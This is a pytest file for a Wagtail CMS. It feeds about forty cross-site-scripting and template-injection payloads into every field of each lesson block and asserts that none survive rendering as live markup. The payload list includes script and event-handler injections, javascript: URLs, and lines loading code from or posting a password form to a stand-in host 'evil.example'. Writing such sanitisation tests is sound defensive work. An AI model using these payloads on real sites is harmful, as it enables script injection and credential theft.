"""Hostile words in every field of every block come out as words (T12)."""

from html.parser import HTMLParser

import pytest
from django.template import Context, Template

from cms.blocks import LessonBody
from cms.templatetags.words import TAGS

BODY = LessonBody()
SHOW = Template("{% load wagtailcore_tags %}{% with sample=True %}{% include_block body %}{% endwith %}")
PAYLOADS = [
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "</textarea><script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='data:text/html,x'></object>",
    "<embed src='data:text/html,x'>", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>", "<p style='position:fixed;inset:0'>x</p>",
    "<b hx-get='/evil' hx-trigger='load'>x</b>", "<b data-hx-get='/evil' data-hx-trigger='load'>x</b>", "<p hx-on:click='alert(1)'>x</p>",
    "<button data-player='https://evil.example' data-alive>x</button>", "<form action=//evil.example><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>", "<a href=' java\tscript:alert(1)'>x</a>", "<a href='data:text/html,x'>x</a>", "<a href=\"vbscript:x\">x</a>",
    "javascript:alert(1)", "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "{{ 7|add:7 }}{% debug %}", "\" onfocus=alert(1) autofocus x=\"", "' onmouseover=alert(1) x='",
    "<embed embedtype='media' url='https://evil.example'/>", "<a linktype='page' id='1' onclick='alert(1)'>x</a>",
]  # fmt: skip
OUR_WORDS = {"tone", "type", "kind"}
ADDRESSES = {"href", "src", "srcset", "action", "data-player", "data", "poster", "formaction", "xlink:href"}


class Markup(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.addresses = set(), set(), set()
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _value in attrs}
        self.addresses |= {str(value).strip().lower() for name, value in attrs if name in ADDRESSES}


def poisoned(value, text):
    """The same value with hostile words wherever words are."""
    if isinstance(value, dict):
        return {key: kept if key in OUR_WORDS else poisoned(kept, text) for key, kept in value.items()}
    if isinstance(value, list):
        return [poisoned(each, text) for each in value]
    if isinstance(value, str):
        return text
    if hasattr(value, "_meta"):
        for field in value._meta.concrete_fields:
            if field.get_internal_type() in {"CharField", "TextField", "URLField"} and field.name not in OUR_WORDS:
                setattr(value, field.name, text)
        if getattr(value, "file", None) is not None:
            poisoned(value.file, text)
    return value


def drawn(name, text=None):
    block = BODY.child_blocks[name]
    sample = getattr(block.meta, "preview_value", None) or block.get_preview_value()
    value = sample() if callable(sample) else sample
    return SHOW.render(Context({"body": block.bind(block.normalize(value if text is None else poisoned(value, text)))}))


@pytest.mark.parametrize("name", sorted(BODY.child_blocks))
def test_hostile_words_are_only_words(db, name):
    ours = Markup(drawn(name))
    for payload in PAYLOADS:
        html = drawn(name, payload)
        found = Markup(html)

        assert found.tags <= ours.tags | TAGS, payload
        extra = found.attributes - ours.attributes - {("a", "href"), ("a", "rel")}
        assert not {attribute for _tag, attribute in extra if attribute.startswith(("on", "hx-", "data-", "style", "srcdoc"))}, (payload, extra)
        assert not [address for address in found.addresses if address.startswith(("javascript:", "data:", "vbscript:", "java\t"))], payload
        assert not [address for address in found.addresses - ours.addresses if "evil" in address.partition("?")[0]], payload
        if payload.startswith("{{"):
            assert "14" not in html.replace(payload, "") or "14" in drawn(name)


def test_there_are_forty_of_them():
    assert len(set(PAYLOADS)) >= 40
